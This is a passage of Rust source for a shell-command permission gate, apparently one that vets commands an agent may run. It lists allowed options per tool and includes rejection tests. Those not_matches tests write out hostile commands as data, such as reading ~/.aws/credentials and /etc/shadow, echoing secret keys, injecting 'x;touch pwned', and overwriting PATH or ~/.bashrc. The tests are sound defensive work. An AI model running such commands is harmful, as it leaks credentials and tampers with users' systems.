/// `git add .`, `git add dir/` and `-A` stage untracked files the gate never saw (an
/// unignored `deploy_key.pem`), which `git diff --cached` then prints: only named files are
/// vouched for, each judged as a read. A bare directory name is a known limit (README).
fn git_add_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    for word in operand_words(parsed, args) {
        let last = word.trim_end_matches('/').rsplit('/').next().unwrap_or("");
        if word.ends_with('/') || matches!(last, "" | "." | "..") {
            return Err(format!("stages the whole directory `{word}`, untracked files included"));
        }
    }
    Ok(())
}

/// Outside a repository `git diff A B` (with or without `--`) is `git diff --no-index A B`,
/// which prints every file of two directories (`git diff src .` prints `.env`); a revision
/// and a path cannot be told apart by their text, so exactly two operands are not vouched for,
/// unless one is `HEAD` or `HEAD~N`: no file of such a name is ever written through the gate,
/// so outside a repository git stops there.
fn git_diff_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    let operands: Vec<&str> = operand_words(parsed, args).collect();
    let head = |word: &str| word.starts_with("HEAD") && crate::gate::paths::is_head_revision(word);
    match operands.as_slice() {
        [first, second] if !head(first) && !head(second) => {
            Err("names two operands, which outside a repository compares two directories".to_owned())
        }
        _ => Ok(()),
    }
}

fn git_remote_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    match operand_words(parsed, args).collect::<Vec<_>>().as_slice() {
        [] => Ok(()),
        [first, ..] => Err(format!("uses the `{first}` form")),
    }
}

fn git_worktree_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    first_word_is(args, &["list"])?;
    first_operand_is(parsed, args, &["list"])
}

fn git_reflog_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    match operand_words(parsed, args).next() {
        None | Some("show") => Ok(()),
        Some(first) if !matches!(first, "expire" | "delete" | "drop" | "exists") => Ok(()),
        Some(first) => Err(format!("uses the `{first}` form")),
    }
}

/// `command -v NAME` / `command -V NAME` look a name up; `command NAME` runs it (unwrapped
/// before this table is consulted).
fn command_lookup_check(parsed: &Parsed, grammar: &Grammar, _args: &[String]) -> Result<(), String> {
    if parsed.has(grammar, "v") || parsed.has(grammar, "V") { Ok(()) } else { Err("runs the command".to_owned()) }
}

/// `cd -` goes to `$OLDPWD`, only known at run time.
fn cd_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    if operand_words(parsed, args).any(|word| word == "-") {
        return Err("uses `-` (a directory only known at run time)".to_owned());
    }
    Ok(())
}

/// A version query only: `python3 --version`, not `python3 script.py`.
fn version_check(parsed: &Parsed, _grammar: &Grammar, args: &[String]) -> Result<(), String> {
    if parsed.options.len() == 1 && parsed.operands.is_empty() && args.len() == 1 {
        Ok(())
    } else {
        Err("is not a version query".to_owned())
    }
}

/// The revision and diff options git's log, show, diff and friends share. Left out: options
/// that write (`--output`), run external programs (`--ext-diff`, `--textconv`, `--show-signature`
/// runs gpg, `--no-index` reads outside the repository), or read lists from stdin.
const GIT_LOG_OPTIONS: &[&str] = &[
    "--oneline",
    "-n, --max-count=NUM",
    "--skip=NUM",
    "--graph",
    "--all",
    "--decorate[=TEXT]",
    "--no-decorate",
    "--stat[=TEXT]",
    "--shortstat",
    "--numstat",
    "--name-only",
    "--name-status",
    "-p, --patch",
    "-u",
    "--no-patch",
    "-s",
    "--format=TEXT",
    "--pretty[=TEXT]",
    "--abbrev-commit",
    "--no-abbrev-commit",
    "--abbrev[=TEXT]",
    "--no-abbrev",
    "--since=TEXT",
    "--until=TEXT",
    "--after=TEXT",
    "--before=TEXT",
    "--author=PATTERN",
    "--committer=PATTERN",
    "--grep=PATTERN",
    "-i, --regexp-ignore-case",
    "--all-match",
    "--invert-grep",
    "-E, --extended-regexp",
    "-F, --fixed-strings",
    "--merges",
    "--no-merges",
    "--first-parent",
    "--reverse",
    "--date=TEXT",
    "--relative-date",
    "--follow",
    // `-L RANGE:FILE` names a file inside its value: left out.
    "-S PATTERN",
    "-G PATTERN",
    "--pickaxe-all",
    "--pickaxe-regex",
    "--cached",
    "--staged",
    "--color[=TEXT]",
    "--no-color",
    "--word-diff[=TEXT]",
    "--color-words[=TEXT]",
    "-w, --ignore-all-space",
    "-b, --ignore-space-change",
    "--ignore-blank-lines",
    "--ignore-cr-at-eol",
    // git takes these values only attached (`-U5`, `--unified=5`): `-U FILE` reads FILE.
    "-U[NUM]",
    "--unified[=NUM]",
    "-M, --find-renames[=TEXT]",
    "-C, --find-copies[=TEXT]",
    "--diff-filter=TEXT",
    "--no-ext-diff",
    "--no-textconv",
    "--summary",
    "--compact-summary",
    "--dirstat[=TEXT]",
    "--check",
    "--exit-code",
    "--quiet",
    "--minimal",
    "--patience",
    "--histogram",
    "--diff-algorithm=TEXT",
    "--full-diff",
    "--topo-order",
    "--date-order",
    "--author-date-order",
    "--left-right",
    "--cherry-pick",
    "--cherry-mark",
    "--boundary",
    "--branches[=TEXT]",
    "--tags[=TEXT]",
    "--remotes[=TEXT]",
    "--max-parents=NUM",
    "--min-parents=NUM",
    "--simplify-by-decoration",
    "--ancestry-path",
    "--count",
    "--parents",
    "--children",
    "--source",
    "--mailmap",
    "--no-mailmap",
    "-z",
    "--raw",
    "--full-index",
    "--src-prefix=TEXT",
    "--dst-prefix=TEXT",
    "--no-prefix",
    "--relative[=TEXT]",
    "-R",
    "-a, --text",
    "-W, --function-context",
    "--patch-with-stat",
    "-c",
    "--cc",
    "-m",
    "--diff-merges=TEXT",
    "--encoding=TEXT",
    "--no-renames",
    "--name-rev",
];

pub static SAFE_COMMANDS: &[SafeEntry] = &[
    SafeEntry {
        options: &[
            "-a, --all",
            "-A, --almost-all",
            "-l",
            "-h, --human-readable",
            "-R, --recursive",
            "-t",
            "-r, --reverse",
            "-S",
            "-1",
            "-d, --directory",
            "-F, --classify[=TEXT]",
            "-i, --inode",
            "-s, --size",
            "-n, --numeric-uid-gid",
            "-g",
            "-o",
            "-G, --no-group",
            "-C",
            "-x",
            "-m",
            "-p",
            "-U",
            "-v",
            "-X",
            "-c",
            "-u",
            "-L, --dereference",
            "-H, --dereference-command-line",
            "-k, --kibibytes",
            "-b, --escape",
            "-q, --hide-control-chars",
            "-N, --literal",
            "-Q, --quote-name",
            "-Z, --context",
            "-T, --tabsize=NUM",
            "-w, --width=NUM",
            "-I, --ignore=PATTERN",
            "--hide=PATTERN",
            "--color[=TEXT]",
            "--sort=TEXT",
            "--time=TEXT",
            "--time-style=TEXT",
            "--format=TEXT",
            "--group-directories-first",
            "--indicator-style=TEXT",
            "--full-time",
            "--quoting-style=TEXT",
            "--block-size=TEXT",
            "--si",
            "--hyperlink[=TEXT]",
            "--author",
            "--file-type",
            "--zero",
        ],
        operands: "READ...",
        metadata_only: true,
        options_harmless: true,
        matches: &["ls -la", "ls src/ tests/", "ls -la --color=never src", "ls src/*.rs"],
        not_matches: &["ls ~/.ssh", "ls /etc", "ls --bogus", "ls .en*", "ls -I ~/.ssh src"],
        // macOS's BSD ls (`bin/ls/ls.c`): `-T` (full times), `-w` (raw names) and `-I` (no
        // dotfile hiding) are switches, so the next word is a listed path.
        bsd_style: Some(Style::Posix),
        bsd: &["-T", "-w", "-I"],
        ..entry("safe.ls", &["ls", "dir"])
    },
    SafeEntry {
        options: &[
            "-A, --show-all",
            "-b, --number-nonblank",
            "-e",
            "-E, --show-ends",
            "-n, --number",
            "-s, --squeeze-blank",
            "-t",
            "-T, --show-tabs",
            "-u",
            "-v, --show-nonprinting",
        ],
        operands: "READ...",
        matches: &["cat src/main.rs", "cat -n a.txt b.txt"],
        not_matches: &[
            "cat ~/.aws/credentials",
            "cat .env",
            "cat /proc/self/environ",
            "cat *.rs",
            "cat src/*.rs",
            "cat config/*.toml",
        ],
        ..entry("safe.cat", &["cat"])
    },
    SafeEntry {
        options: &["-b, --before", "-r, --regex", "-s, --separator=TEXT"],
        operands: "READ...",
        matches: &["tac logs/app.log"],
        not_matches: &["tac -s x ~/.ssh/id_rsa"],
        ..entry("safe.tac", &["tac"])
    },
    SafeEntry {
        options: &[
            "-n, --lines=TEXT",
            "-c, --bytes=TEXT",
            "-q, --quiet, --silent",
            "-v, --verbose",
            "-z, --zero-terminated",
        ],
        operands: "READ...",
        numeric_option: true,
        matches: &["head -n 20 Cargo.toml", "head -20 src/lib.rs", "head -1 evals/shell-commands.jsonl"],
        not_matches: &["head /etc/shadow", "head -s x"],
        ..entry("safe.head", &["head"])
    },
    SafeEntry {
        options: &[
            "-n, --lines=TEXT",
            "-c, --bytes=TEXT",
            "-q, --quiet, --silent",
            "-v, --verbose",
            "-z, --zero-terminated",
            "-f, --follow[=TEXT]",
            "-F",
            "--retry",
            "-s, --sleep-interval=NUM",
            "--pid=NUM",
            "--max-unchanged-stats=NUM",
        ],
        operands: "READ...",
        numeric_option: true,
        matches: &["tail -f logs/app.log", "tail -n 100 logs/test-output.log"],
        not_matches: &["tail /etc/shadow", "tail --pid=1 --bogus x"],
        ..entry("safe.tail", &["tail"])
    },
    SafeEntry {
        options: &["-c, --bytes", "-m, --chars", "-l, --lines", "-L, --max-line-length", "-w, --words", "--total=TEXT"],
        operands: "READ...",
        metadata_only: true,
        matches: &["wc -l src/*.rs", "wc -l -- *.rs", "wc -c Cargo.toml"],
        not_matches: &["wc -l ~/.ssh/id_rsa", "wc --files0-from=- x", "wc -c [-]*", "wc -l *.rs"],
        ..entry("safe.wc", &["wc"])
    },
    SafeEntry {
        options: &[
            "-b, --body-numbering=TEXT",
            "-d, --section-delimiter=TEXT",
            "-h, --header-numbering=TEXT",
            "-i, --line-increment=NUM",
            "-n, --number-format=TEXT",
            "-s, --number-separator=TEXT",
            "-v, --starting-line-number=NUM",
            "-w, --number-width=NUM",
        ],
        operands: "READ...",
        matches: &["nl src/main.rs"],
        not_matches: &["nl /etc/passwd"],
        ..entry("safe.nl", &["nl"])
    },
    SafeEntry {
        options: &[
            "-b, --brief",
            "-i, --mime",
            "--mime-type",
            "--mime-encoding",
            "-L, --dereference",
            "-h, --no-dereference",
            "-z, --uncompress",
            "-k, --keep-going",
            "-0, --print0",
            "-N, --no-pad",
            "-s, --special-files",
            "-E",
        ],
        operands: "READ...",
        matches: &["file target/debug/permit"],
        not_matches: &["file -f - x"],
        ..entry("safe.file", &["file"])
    },
    SafeEntry {
        options: &[
            "-L, --dereference",
            "-f, --file-system",
            "-c, --format=TEXT",
            "--printf=TEXT",
            "-t, --terse",
            "--cached=TEXT",
        ],
        operands: "READ...",
        matches: &["stat Cargo.toml", "stat -c %s Cargo.toml"],
        not_matches: &["stat ~/.ssh/id_rsa"],
        // BSD stat (`usr.bin/stat/stat.c`, getopt "f:FHlLnqrst:x"): `-f FORMAT`, `-t TIMEFMT`.
        bsd_style: Some(Style::Posix),
        bsd: &["-f TEXT", "-t TEXT"],
        ..entry("safe.stat", &["stat"])
    },
    SafeEntry {
        options: &["-b", "-c", "-C", "-d", "-o", "-x", "-v", "-n NUM", "-s NUM", "-e TEXT", "-L"],
        style: Style::Posix,
        operands: "READ...",
        matches: &["hexdump -C target/x.bin"],
        not_matches: &["hexdump -f fmt x"],
        ..entry("safe.hexdump", &["hexdump", "hd"])
    },
    SafeEntry {
        options: &[
            "-A, --address-radix=TEXT",
            "-j, --skip-bytes=NUM",
            "-N, --read-bytes=NUM",
            "-S, --strings[=NUM]",
            "-t, --format=TEXT",
            "-v, --output-duplicates",
            "-w, --width[=NUM]",
            "--endian=TEXT",
            "-a",
            "-b",
            "-c",
            "-d",
            "-f",
            "-i",
            "-l",
            "-o",
            "-s",
            "-x",
        ],
        operands: "READ...",
        matches: &["od -c data.bin"],
        not_matches: &["od -c /etc/shadow"],
        ..entry("safe.od", &["od"])
    },
    SafeEntry {
        options: &[
            "-b, --binary",
            "-t, --text",
            "-z, --zero",
            "--tag",
            "-a, --algorithm=TEXT",
            "-l, --length=NUM",
            "--untagged",
            "--base64",
            "--raw",
        ],
        operands: "READ...",
        matches: &["sha256sum Cargo.lock", "md5sum a b"],
        not_matches: &["sha256sum -c sums.txt", "md5sum ~/.ssh/id_rsa"],
        ..entry(
            "safe.checksum",
            &["md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum"],
        )
    },
    SafeEntry {
        options: &[
            "-a, --all",
            "-d, --data",
            "-f, --print-file-name",
            "-n, --bytes=NUM",
            "-t, --radix=TEXT",
            "-e, --encoding=TEXT",
            "-w, --include-all-whitespace",
            "-s, --output-separator=TEXT",
        ],
        operands: "READ...",
        numeric_option: true,
        matches: &["strings target/debug/permit"],
        not_matches: &["strings -T x y"],
        check: Some(no_response_files),
        ..entry("safe.strings", &["strings"])
    },
    SafeEntry {
        options: &[
            // `-r`/`-R` read every file below, `.env` included, and the pattern decides what
            // is printed (`grep -r '' .`): vouched for only once the machine shows each tree
            // holds nothing but directories and files the path rules allow (`grep_needs`).
            "-r, --recursive",
            "-R, --dereference-recursive",
            "-n, --line-number",
            "-i, --ignore-case",
            "--no-ignore-case",
            "-y",
            "-l, --files-with-matches",
            "-L, --files-without-match",
            "-c, --count",
            "-v, --invert-match",
            "-w, --word-regexp",
            "-x, --line-regexp",
            "-E, --extended-regexp",
            "-F, --fixed-strings",
            "-G, --basic-regexp",
            "-P, --perl-regexp",
            "-o, --only-matching",
            "-q, --quiet, --silent",
            "-s, --no-messages",
            "-h, --no-filename",
            "-H, --with-filename",
            "-A, --after-context=NUM",
            "-B, --before-context=NUM",
            "-C, --context=NUM",
            "-m, --max-count=NUM",
            "-e, --regexp=PATTERN",
            "-f, --file=READ",
            "--include=PATTERN",
            "--exclude=PATTERN",
            "--exclude-dir=PATTERN",
            "--exclude-from=READ",
            "--color[=TEXT]",
            "--colour[=TEXT]",
            "-a, --text",
            "-I",
            "-z, --null-data",
            "-Z, --null",
            "--line-buffered",
            "-b, --byte-offset",
            "-T, --initial-tab",
            "-U, --binary",
            "--label=TEXT",
            "--binary-files=TEXT",
            // No `-d`/`--directories`: `-d recurse` is `-r`.
        ],
        operands: "PATTERN READ...",
        alternatives: &[("e", "READ..."), ("f", "READ...")],
        numeric_option: true,
        matches: &[
            "grep -n TODO src/lib.rs",
            "grep -c fn src/lib.rs",
            "grep -A10 '\\[dependencies\\]' Cargo.toml",
            "grep -e a -e b src/lib.rs src/main.rs",
        ],
        not_matches: &[
            "grep -r password ~/.aws",
            "grep x *",
            "grep -e a -e b src/*.rs",
            "grep --pre=sh x y",
            "grep -r '' .",
            "grep -rn TODO src",
            "grep -R x src",
            "grep --recursive x",
            "grep -d recurse x .",
            "grep -hv --context 9 /home/dev/.aws/credentials /dev/null",
        ],
        // BSD grep (`usr.bin/grep/grep.c`) permutes like GNU, but its `--context` takes a value
        // only when attached: `grep -v --context 9 FILE` searches FILE for `9`.
        bsd_style: Some(Style::Gnu),
        bsd: &["--context[=NUM]"],
        needs: Some(grep_needs),
        ..entry("safe.grep", &["grep", "egrep", "fgrep"])
    },
    SafeEntry {
        options: &[
            "-n, --line-number",
            "-N, --no-line-number",
            "-i, --ignore-case",
            "-s, --case-sensitive",
            "-S, --smart-case",
            "-w, --word-regexp",
            "-x, --line-regexp",
            "-v, --invert-match",
            "-c, --count",
            "--count-matches",
            "-l, --files-with-matches",
            "--files-without-match",
            "--files",
            "--type-list",
            "-t, --type=TEXT",
            "-T, --type-not=TEXT",
            "-g, --glob=PATTERN",
            "--iglob=PATTERN",
            "-A, --after-context=NUM",
            "-B, --before-context=NUM",
            "-C, --context=NUM",
            "-m, --max-count=NUM",
            "-e, --regexp=PATTERN",
            "-f, --file=READ",
            "-F, --fixed-strings",
            "-U, --multiline",
            "-P, --pcre2",
            "-o, --only-matching",
            "-r, --replace=TEXT",
            // No `--hidden`, `--no-ignore*` or `-u`: ripgrep skips hidden and ignored files
            // (`.env`) by default, which is what makes a recursive search vouchable.
            "--json",
            "--no-heading",
            "--heading",
            "--color=TEXT",
            "--colors=TEXT",
            "--vimgrep",
            "-H, --with-filename",
            "-I, --no-filename",
            "--sort=TEXT",
            "--sortr=TEXT",
            "-d, --max-depth=NUM",
            "--max-filesize=TEXT",
            "-0, --null",
            "--trim",
            "--stats",
            "-q, --quiet",
            "-L, --follow",
            "-a, --text",
            "-p, --pretty",
            "--column",
            "-b, --byte-offset",
            "--no-messages",
            "-j, --threads=NUM",
            "-M, --max-columns=NUM",
            "--version",
        ],
        operands: "PATTERN READ...",
        alternatives: &[("e", "READ..."), ("f", "READ..."), ("files", "READ..."), ("type-list", ""), ("version", "")],
        check: Some(rg_check),
        matches: &[
            "rg -n 'fn main' src",
            "rg --files",
            "rg -g '!*.min.js' TODO",
            "rg -t rust 'unwrap\\(\\)' src",
            "rg --type=py -t ts x",
        ],
        not_matches: &[
            "rg --pre ./x.sh TODO",
            "rg --pre=sh TODO",
            "rg -z x",
            "rg --pr=sh x",
            "rg -t all token",
            "rg -t yaml -t json npmAuthToken",
            "rg -tsh x",
            "rg --type-add 'x:*.env' -t x y",
            "rg -g '*.rs' x",
            "rg -g '*.py' -i api_key",
            "rg -g '*.{swift,h}' SECRET",
            "rg token .git",
        ],
        ..entry("safe.rg", &["rg"])
    },
    SafeEntry {
        style: Style::NoOptions,
        operands: "TEXT...",
        run_time_text: true,
        matches: &[
            "echo done",
            "echo 'rm -rf ~'",
            "echo -n hi",
            "echo \"$SHELL\"",
            "echo \"head: $(git rev-parse --short HEAD)\"",
        ],
        not_matches: &[
            "echo x > ~/.bashrc",
            "echo $AWS_SECRET_ACCESS_KEY",
            "echo \"$AWS_SECRET_ACCESS_KEY\"",
            "echo $SHELL",
            "echo \"${SHELL@P}\"",
            "echo \"$(cat ~/.ssh/id_rsa)\"",
            "echo \"$((HOME=1))\"",
            "echo \"${x:-$SHELL}\"",
        ],
        ..entry("safe.echo", &["echo", "true", "false", ":"])
    },
    SafeEntry {
        style: Style::Posix,
        operands: "TEXT...",
        check: Some(printf_check),
        matches: &["printf '%s\\n' done", "printf '%d items\\n' 42", "printf '%5.2f' -1.5e3"],
        not_matches: &[
            "printf -v PATH %s /tmp/evil",
            "printf x > ~/.profile",
            "printf %d HOME=11",
            "printf '%*s' PATH++ x",
        ],
        ..entry("safe.printf", &["printf"])
    },
    SafeEntry {
        options: &["-L", "-P"],
        operands: "",
        matches: &["pwd"],
        not_matches: &["pwd --bogus"],
        ..entry("safe.pwd", &["pwd"])
    },
    SafeEntry {
        options: &[
            "-a",
            "-s",
            "-n",
            "-r",
            "-v",
            "-m",
            "-p",
            "-i",
            "-o",
            "--all",
            "--kernel-name",
            "--nodename",
            "--kernel-release",
            "--kernel-version",
            "--machine",
            "--processor",
            "--hardware-platform",
            "--operating-system",
        ],
        operands: "",
        matches: &["uname -a"],
        not_matches: &["uname x"],
        ..entry("safe.uname", &["uname"])
    },
    SafeEntry {
        options: &["-u, --user", "-g, --group", "-G, --groups", "-n, --name", "-r, --real", "-z, --zero"],
        operands: "TEXT?",
        matches: &["id", "id -u", "whoami"],
        not_matches: &["id --bogus"],
        ..entry("safe.id", &["id", "whoami", "groups", "logname"])
    },
    SafeEntry {
        options: &["--all", "--ignore=NUM"],
        operands: "",
        matches: &["nproc"],
        not_matches: &["nproc x"],
        ..entry("safe.nproc", &["nproc"])
    },
    SafeEntry {
        style: Style::Posix,
        operands: "TEXT...",
        matches: &["sleep 1"],
        not_matches: &["sleep 1 > /etc/x"],
        ..entry("safe.sleep", &["sleep"])
    },
    SafeEntry {
        options: &["-a", "-f", "-p", "-P", "-t"],
        style: Style::Posix,
        operands: "TEXT...",
        check: Some(program_names_check),
        matches: &["type cargo", "which cargo", "which -a python3", "whereis g++"],
        not_matches: &["which --bogus x", "whereis 'x;touch pwned'", "whereis '$(id)'"],
        ..entry("safe.which", &["type", "which", "whereis"])
    },
    SafeEntry {
        options: &["-a, --multiple", "-s, --suffix=TEXT", "-z, --zero"],
        operands: "TEXT...",
        matches: &["basename src/main.rs .rs", "dirname src/main.rs"],
        not_matches: &["basename --bogus x"],
        ..entry("safe.basename", &["basename", "dirname"])
    },
    SafeEntry {
        options: &[
            "-e, --canonicalize-existing",
            "-f, --canonicalize",
            "-m, --canonicalize-missing",
            "-n, --no-newline",
            "-q, --quiet",
            "-s, --silent, --strip, --no-symlinks",
            "-z, --zero",
            "-L, --logical",
            "-P, --physical",
            "-v, --verbose",
            "--relative-to=READ",
            "--relative-base=READ",
        ],
        operands: "READ...",
        matches: &["realpath src", "readlink -f target"],
        not_matches: &["realpath ~/.ssh/id_rsa"],
        ..entry("safe.realpath", &["realpath", "readlink"])
    },
    SafeEntry {
        options: &[
            "-a, --all",
            "-s, --summarize",
            "-h, --human-readable",
            "-c, --total",
            "-d, --max-depth=NUM",
            "-k",
            "-m",
            "-b, --bytes",
            "-x, --one-file-system",
            "-L, --dereference",
            "-P, --no-dereference",
            "-S, --separate-dirs",
            "-l, --count-links",
            "-0, --null",
            "--apparent-size",
            "--exclude=PATTERN",
            "--time[=TEXT]",
            "--time-style=TEXT",
            "--si",
            "--inodes",
            "--block-size=TEXT",
            "-B=TEXT",
            "-t, --threshold=TEXT",
        ],
        operands: "READ...",
        metadata_only: true,
        matches: &["du -sh target", "du -sh -- *"],
        not_matches: &["du -sh ~", "du -s [-]*", "du -sh *"],
        ..entry("safe.du", &["du"])
    },
    SafeEntry {
        options: &[
            "-a, --all",
            "-h, --human-readable",
            "-H, --si",
            "-i, --inodes",
            "-k",
            "-l, --local",
            "-P, --portability",
            "-T, --print-type",
            "-t, --type=TEXT",
            "-x, --exclude-type=TEXT",
            "--output[=TEXT]",
            "--total",
            "-B, --block-size=TEXT",
        ],
        operands: "READ...",
        metadata_only: true,
        options_harmless: true,
        matches: &["df -h ."],
        not_matches: &["df --bogus"],
        ..entry("safe.df", &["df"])
    },
    SafeEntry {
        options: &[
            "-b, --bytes",
            "-g, --gibi",
            "-h, --human",
            "-k, --kibi",
            "-m, --mebi",
            "-t, --total",
            "-w, --wide",
            "-s, --seconds=NUM",
            "-c, --count=NUM",
        ],
        operands: "",
        matches: &["free -h", "uptime"],
        not_matches: &["free x"],
        ..entry("safe.free", &["free", "uptime"])
    },
    SafeEntry {
        options: &["-s, --silent, --quiet"],
        operands: "",
        matches: &["tty"],
        not_matches: &["tty x"],
        ..entry("safe.tty", &["tty"])
    },
    SafeEntry {
        options: &["-a, --all-locales", "-m, --charmaps", "-k, --keyword-name", "-c, --category-name"],
        operands: "TEXT...",
        matches: &["locale"],
        not_matches: &["locale --bogus"],
        ..entry("safe.locale", &["locale"])
    },
    SafeEntry {
        options: &["-a"],
        style: Style::Posix,
        operands: "TEXT...",
        matches: &["getconf PAGESIZE"],
        not_matches: &["getconf -v x"],
        ..entry("safe.getconf", &["getconf"])
    },
    SafeEntry {
        options: &[
            "-b, --bytes=TEXT",
            "-c, --characters=TEXT",
            "-d, --delimiter=TEXT",
            "-f, --fields=TEXT",
            "-n",
            "-s, --only-delimited",
            "-z, --zero-terminated",
            "--complement",
            "--output-delimiter=TEXT",
        ],
        operands: "READ...",
        matches: &["cut -d, -f1 data.csv"],
        not_matches: &["cut -f1 /etc/passwd"],
        ..entry("safe.cut", &["cut"])
    },
    SafeEntry {
        options: &["-c, -C, --complement", "-d, --delete", "-s, --squeeze-repeats", "-t, --truncate-set1"],
        operands: "TEXT TEXT?",
        matches: &["tr -d '\\r'", "tr a-z A-Z"],
        not_matches: &["tr --bogus a b"],
        ..entry("safe.tr", &["tr"])
    },
    SafeEntry {
        options: &[
            "-t, --table",
            "-s, --separator=TEXT",
            "-o, --output-separator=TEXT",
            "-c, --output-width=NUM",
            "-x, --fillrows",
            "-n",
            "-e",
            "-N, --table-columns=TEXT",
            "-J, --json",
            "-l, --table-columns-limit=NUM",
            "-R, --table-right=TEXT",
            "-H, --table-hide=TEXT",
            "-r, --tree=TEXT",
            "-d, --table-noheadings",
            "-W, --table-wrap=TEXT",
            "-L, --keep-empty-lines",
        ],
        operands: "READ...",
        matches: &["column -t -s, data.csv"],
        not_matches: &["column -t /etc/passwd"],
        ..entry("safe.column", &["column"])
    },
    SafeEntry {
        options: &["-w, --width=NUM", "-s, --spaces", "-b, --bytes"],
        operands: "READ...",
        numeric_option: true,
        matches: &["fold -w 80 README.md"],
        not_matches: &["fold -w 80 /etc/passwd"],
        ..entry("safe.fold", &["fold"])
    },
    SafeEntry {
        options: &[
            "-w, --width=NUM",
            "-g, --goal=NUM",
            "-s, --split-only",
            "-u, --uniform-spacing",
            "-p, --prefix=TEXT",
            "-t, --tagged-paragraph",
            "-c, --crown-margin",
        ],
        operands: "READ...",
        numeric_option: true,
        matches: &["fmt -w 72 NOTES.md"],
        not_matches: &["fmt ~/.ssh/id_rsa", "fmt -p /home/dev/.ssh/id_ed25519 README.md"],
        // BSD fmt (`usr.bin/fmt/fmt.c`, getopt "0123456789cd:hl:mnpst:w:"): `-p` is a switch
        // (indented paragraphs), so GNU's prefix is a file there; `-t` takes a tab width.
        bsd_style: Some(Style::Posix),
        bsd: &["-p", "-t NUM"],
        ..entry("safe.fmt", &["fmt"])
    },
    SafeEntry {
        options: &["-d, --delimiters=TEXT", "-s, --serial", "-z, --zero-terminated"],
        operands: "READ...",
        matches: &["paste -d, a b"],
        not_matches: &["paste .env x"],
        ..entry("safe.paste", &["paste"])
    },
    SafeEntry {
        options: &["-0, --zero"],
        operands: "READ...",
        matches: &["rev a.txt", "tsort deps.txt"],
        not_matches: &["rev /etc/shadow"],
        ..entry("safe.rev", &["rev", "tsort"])
    },
    SafeEntry {
        options: &["-i, --initial", "-a, --all", "--first-only", "-t, --tabs=TEXT"],
        operands: "READ...",
        matches: &["expand -t 4 src/main.c"],
        not_matches: &["expand -t 4 /etc/passwd"],
        ..entry("safe.expand", &["expand", "unexpand"])
    },
    SafeEntry {
        options: &[
            "-u",
            // GNU diff: the long forms take a value only when attached (`--unified=5`), so
            // `--unified FILE` compares FILE.
            "-U NUM",
            "--unified[=NUM]",
            "-c",
            "-C NUM",
            "--context[=NUM]",
            "-q, --brief",
            "-s, --report-identical-files",
            // No `-N`/`--unidirectional-new-file`: given directories, a file on one side only
            // is then printed whole (`diff -N src .` prints `.env`).
            "-y, --side-by-side",
            "-W, --width=NUM",
            "--left-column",
            "--suppress-common-lines",
            "-w, --ignore-all-space",
            "-b, --ignore-space-change",
            "-B, --ignore-blank-lines",
            "-Z, --ignore-trailing-space",
            "-E, --ignore-tab-expansion",
            "-i, --ignore-case",
            "--ignore-file-name-case",
            "--no-ignore-file-name-case",
            "-I, --ignore-matching-lines=PATTERN",
            "-a, --text",
            "--strip-trailing-cr",
            "-p, --show-c-function",
            "-F, --show-function-line=PATTERN",
            "-t, --expand-tabs",
            "-T, --initial-tab",
            "--color[=TEXT]",
            "--label=TEXT",
            "-x, --exclude=PATTERN",
            "-X, --exclude-from=READ",
            "-S, --starting-file=TEXT",
            "--no-dereference",
            "-d, --minimal",
            "--horizon-lines=NUM",
            "--speed-large-files",
            "--normal",
            "-n, --rcs",
            "-e, --ed",
            "--tabsize=NUM",
            "--suppress-blank-empty",
            "-l, --paginate",
        ],
        operands: "READ...",
        needs: Some(diff_needs),
        matches: &["diff <(git show HEAD:Cargo.toml) Cargo.toml", "git show HEAD:a.rs | diff -u - a.rs"],
        not_matches: &[
            "diff ~/.ssh/id_rsa x",
            "diff --to-file=/etc/shadow a",
            "diff -N src .",
            "diff -r a b",
            "diff apps/web .",
            "diff src/a.rs src/b.rs",
        ],
        ..entry("safe.diff", &["diff", "colordiff"])
    },
    SafeEntry {
        options: &[
            "-b, --print-bytes",
            "-i, --ignore-initial=TEXT",
            "-l, --verbose",
            "-n, --bytes=NUM",
            "-s, --quiet, --silent",
        ],
        operands: "READ...",
        matches: &["cmp a.bin b.bin"],
        not_matches: &["cmp /etc/shadow x"],
        ..entry("safe.cmp", &["cmp"])
    },
    SafeEntry {
        options: &[
            "-1",
            "-2",
            "-3",
            "--check-order",
            "--nocheck-order",
            "--output-delimiter=TEXT",
            "--total",
            "-z, --zero-terminated",
        ],
        operands: "READ READ",
        matches: &["comm -12 a.txt b.txt"],
        not_matches: &["comm a b c"],
        ..entry("safe.comm", &["comm"])
    },
    SafeEntry {
        options: &[
            "-a NUM",
            "-e TEXT",
            "-i, --ignore-case",
            "-j NUM",
            "-1 NUM",
            "-2 NUM",
            "-o TEXT",
            "-t TEXT",
            "-v NUM",
            "--check-order",
            "--nocheck-order",
            "--header",
            "-z, --zero-terminated",
        ],
        operands: "READ READ",
        matches: &["join -t, a.csv b.csv"],
        not_matches: &["join a"],
        ..entry("safe.join", &["join"])
    },
    SafeEntry {
        options: &[
            "-r, --raw-output",
            "-j, --join-output",
            "--raw-output0",
            "-a, --ascii-output",
            "-c, --compact-output",
            "-n, --null-input",
            "-s, --slurp",
            "-e, --exit-status",
            "-S, --sort-keys",
            "-C, --color-output",
            "-M, --monochrome-output",
            "-R, --raw-input",
            "--tab",
            "--indent NUM",
            "--arg TEXT TEXT",
            "--argjson TEXT TEXT",
            "--seq",
            "--stream",
            "--stream-errors",
        ],
        operands: "SCRIPT READ...",
        check: Some(jq_check),
        matches: &[
            "jq .name package.json",
            "jq -r '.packages[].name' Cargo.lock.json",
            "jq -c 'select(.label==\"x\")' a.jsonl",
        ],
        not_matches: &[
            "jq . ~/.docker/config.json",
            "jq -n env",
            "jq -n '$ENV.AWS_SECRET_ACCESS_KEY'",
            "jq --rawfile k /etc/shadow -n '$k'",
            "jq -f prog.jq x",
        ],
        ..entry("safe.jq", &["jq"])
    },
    SafeEntry {
        options: &[
            "-d, --date=DATE",
            "-u, --utc, --universal",
            "-I, --iso-8601[=TEXT]",
            "-R, --rfc-email",
            "--rfc-3339=TEXT",
            "-r, --reference=READ",
            "--debug",
        ],
        operands: "TEXT?",
